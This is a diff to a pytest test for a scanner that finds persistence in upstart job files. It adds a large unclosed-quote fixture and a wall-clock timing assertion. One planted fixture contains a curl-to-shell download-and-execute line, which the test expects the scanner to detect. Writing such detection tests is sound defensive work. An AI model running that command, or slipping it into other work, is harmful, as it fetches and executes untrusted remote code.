@@ -9,6 +9,7 @@ import json
 import os
 import random
 import subprocess
+import time
 from pathlib import Path
 
 import pytest
@@ -463,12 +464,16 @@ def test_garbage_and_unclosed_quotes_in_job_files_are_read_fast(rhel6, rules, de
     plant(rhel6, "/etc/init/garbage.conf", random.Random(6).randbytes(256 << 10))
     plant(rhel6, "/etc/init/quote.conf", "exec /bin/true '\n" + "x\n" * 200000)
     plant(rhel6, "/etc/init/paren.conf", "start on (" + "(" * 50000 + "\nexec /tmp/a\n")
+    # 16 MB of stanzas each held open for 100 lines by a quote: read in linear time.
+    plant(rhel6, "/etc/init/quotes.conf", ("exec '\n" + "a\n" * 99) * 78000)
     plant(rhel6, "/etc/init/noend.conf", "script\n" + "/bin/true\n" * 1000 + "curl http://x/ | sh\n")
     os.mkfifo(rhel6 / "etc/init/fifo.conf")
 
-    with deadline(20):
+    started = time.monotonic()
+    with deadline(60):
         result = persistence.scan(str(rhel6), rules)
 
+    assert time.monotonic() - started < 20
     assert ("download-execute", "upstart_job", "/etc/init/noend.conf", 1002) in found(result)
     assert [n["path"] for n in result.notes] == ["/etc/init/fifo.conf"]
     json.dumps(result.finding_dicts())
